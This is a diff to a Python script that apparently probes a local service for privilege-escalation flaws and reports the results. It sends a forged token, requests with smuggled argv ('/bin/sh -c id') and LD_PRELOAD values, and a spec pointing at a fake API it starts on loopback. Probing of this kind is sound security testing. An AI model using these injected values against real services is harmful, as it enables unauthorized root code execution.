@@ -107,6 +107,12 @@ def main() -> None:
     report["forged_token"] = ask_service(sock, json.dumps(forged).encode() + b"\n")
     smuggled = {**forged, "argv": ["/bin/sh", "-c", "id"], "env": {"LD_PRELOAD": "/tmp/x.so"}}
     report["smuggled_fields"] = ask_service(sock, json.dumps(smuggled).encode() + b"\n")
+    # An API of its own on the node's loopback, to hand a root runner a spec.
+    with socket.socket() as fake:
+        fake.bind(("127.0.0.1", 0))
+        fake.listen()
+        own_api = {**forged, "api_url": f"http://127.0.0.1:{fake.getsockname()[1]}"}
+        report["own_api"] = ask_service(sock, json.dumps(own_api).encode() + b"\n")
     print("SCAN " + json.dumps(report), flush=True)
 
 
